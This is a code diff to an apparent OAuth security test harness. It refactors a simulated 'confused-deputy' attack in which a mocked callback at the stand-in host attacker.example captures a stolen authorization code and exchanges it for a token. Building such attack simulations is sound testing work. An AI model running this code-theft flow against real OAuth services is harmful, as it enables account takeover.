@@ -14,7 +14,6 @@ import { proxyHandlers } from './proxyServer';
 import type { AttackDef } from './types';
 
 const ATTACKER_CALLBACK = 'https://attacker.example/cb';
-const received = new WeakMap<object, URL>();
 
 export const confusedDeputy: AttackDef = {
   id: 'confused-deputy',
@@ -34,7 +33,7 @@ export const confusedDeputy: AttackDef = {
   hosts: (world) => [
     ...proxyHandlers(world),
     http.get(ATTACKER_CALLBACK, ({ request }) => {
-      received.set(world, new URL(request.url));
+      world.attacker.landed = new URL(request.url);
       if (new URL(request.url).searchParams.has('code')) world.network.annotate({ mark: 'stolen' });
       return htmlPage('Thanks', '<p>Thanks!</p>');
     }),
@@ -84,11 +83,11 @@ export const confusedDeputy: AttackDef = {
       { values: { client_id: clientId } },
     );
     await browser.navigate(link.href, { mark: 'attacker' });
-    const code = received.get(world)?.searchParams.get('code');
+    const code = world.attacker.landed?.searchParams.get('code');
     if (!code)
       return {
         attackerWon: false,
-        evidence: `No code reached the attacker (${received.get(world)?.searchParams.get('error') ?? 'no redirect'}).`,
+        evidence: `No code reached the attacker (${world.attacker.landed?.searchParams.get('error') ?? 'no redirect'}).`,
       };
     const res = await attacker.token(
       { grant_type: 'authorization_code', code, code_verifier: verifier, client_id: clientId },
